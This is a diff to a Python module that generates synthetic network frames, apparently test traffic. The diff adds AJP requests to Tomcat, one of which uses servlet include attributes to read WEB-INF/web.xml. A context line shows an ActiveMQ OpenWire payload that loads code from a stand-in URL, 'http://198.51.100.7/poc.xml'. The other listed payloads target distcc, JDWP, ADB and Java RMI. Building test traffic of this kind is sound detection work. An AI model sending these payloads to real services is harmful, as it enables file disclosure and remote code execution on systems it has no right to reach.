@@ -1,5 +1,6 @@
 """Commands to exposed services: a compilation and a shell command for distcc, JDWP, ADB with two services, a Java
-object with a code URL over RMI, a class for ActiveMQ (OpenWire). Addresses are fictitious.
+object with a code URL over RMI, a class for ActiveMQ (OpenWire), and two requests to Tomcat over AJP, one of them for a
+file. Addresses are fictitious.
 """
 
 from __future__ import annotations
@@ -29,6 +30,18 @@ def rmi_call(*names: bytes) -> bytes:
     return b"P\xac\xed\0\x05w\x22" + b"".join(parts)
 
 
+def ajp_request(target: bytes, attributes: dict[bytes, bytes]) -> bytes:
+    """A GET request of a web server to Tomcat, without header fields."""
+
+    def text(value: bytes) -> bytes:
+        return struct.pack(">H", len(value)) + value + b"\0"
+
+    head = text(b"HTTP/1.1") + text(target) + text(b"10.20.30.66") + b"\xff\xff" + text(b"tomcat")
+    named = b"".join(b"\x0a" + text(name) + text(value) for name, value in attributes.items())
+    body = b"\x02\x02" + head + struct.pack(">H?H", 8009, False, 0) + named + b"\xff"
+    return b"\x12\x34" + struct.pack(">H", len(body)) + body
+
+
 def frames() -> Frames:
     def connection(port: int, number: int, *messages: bytes) -> Frames:
         yield from conversation((*CLIENT, number), (*SERVER, port), [(True, message) for message in messages])
@@ -45,3 +58,6 @@ def frames() -> Frames:
     yield from connection(1099, 49504, b"JRMI\0\x02K", loader)
     error = b"\x1f\0\0\0\0\0\x01\x01" + struct.pack(">H", len(CLASS)) + CLASS + b"\x01\0\x1bhttp://198.51.100.7/poc.xml"
     yield from connection(61616, 49505, struct.pack(">I", len(error)) + error)
+    include = b"javax.servlet.include."
+    file = {include + b"request_uri": b"/", include + b"path_info": b"WEB-INF/web.xml", include + b"servlet_path": b"/"}
+    yield from connection(8009, 49506, ajp_request(b"/shop", {}), ajp_request(b"/a.txt", file))
